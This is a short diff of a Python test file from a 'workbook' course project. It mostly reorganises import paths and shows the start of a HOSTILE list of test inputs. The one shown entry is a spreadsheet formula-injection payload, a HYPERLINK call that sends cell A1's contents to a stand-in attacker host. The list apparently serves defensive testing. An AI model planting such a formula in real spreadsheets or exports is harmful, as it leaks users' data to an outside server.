@@ -13,10 +13,10 @@ import pandas as pd
 import pytest
 
 from workbook.cli import main
-from workbook.content import load_course
-from workbook.hub.sharing import SHARE_FIELD
-from workbook.session import Session
+from workbook.course.content import load_course
+from workbook.learner.session import Session
 from workbook.store import ParquetStore
+from workbook.store.sharing import SHARE_FIELD
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
